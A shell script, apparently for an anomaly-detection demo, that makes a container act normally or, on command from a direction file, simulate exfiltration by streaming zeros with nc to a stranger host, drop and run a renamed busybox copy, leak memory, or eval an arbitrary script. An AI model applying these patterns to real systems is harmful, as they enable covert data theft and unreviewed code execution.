#!/bin/sh
# What a container of the demo does with its life. It is told by a file that it can read and
# not write; whatever it does, it does by itself: nobody enters it.
# A direction given before it was born is not for it: who replaces it starts afresh.
born=$(date +%s)
doing=calm
trap 'exit 0' TERM

mkdir -p /www /tmp
echo 'all is well' > /www/index.html
httpd -p 8080 -h /www

life() {  # to the partner $1 bytes; to a colleague a question; $2 rounds of work
    head -c "$1" /dev/zero | nc -w 2 "$PARTNER" 443 > /tmp/answer
    [ -z "$COLLEAGUE" ] || printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 "$COLLEAGUE" 8080 > /dev/null
    awk -v n="$2" 'BEGIN { for (i = 0; i < n; i++) sum += i }'
}

exfiltrate() {  # 2 MB/s over one connection, to somebody it never talked to
    while :; do
        dd if=/dev/zero bs=65536 count=32 2> /dev/null || return
        sleep 1
    done | nc "$STRANGER" 443 > /dev/null
}

drop() {  # a program that its image does not have, and runs
    cp /bin/busybox /tmp/busybox-update
    chmod 755 /tmp/busybox-update
    /tmp/busybox-update sleep 900
}

leak() {  # 2 MB/s that nobody frees
    while :; do
        echo
        sleep 1
    done | awk '
        BEGIN { page = "."; while (length(page) < 65536) page = page page }
        { for (i = 0; i < 32; i++) kept[n++] = page n }'
}

while :; do
    . /stage/direction
    if [ "$GIVEN" -ge "$born" ] && [ "$DO" != "$doing" ]; then
        doing=$DO
        case $doing in
            exfiltrate | drop | leak) $doing & ;;
            script) eval "$SCRIPT" & ;;
        esac
    fi
    bytes=$((2000 + RANDOM % 2000))
    case $doing in
        spike) life $((bytes * 20)) 700000 ;;
        *) life "$bytes" 20000 ;;
    esac
    sleep 1
done
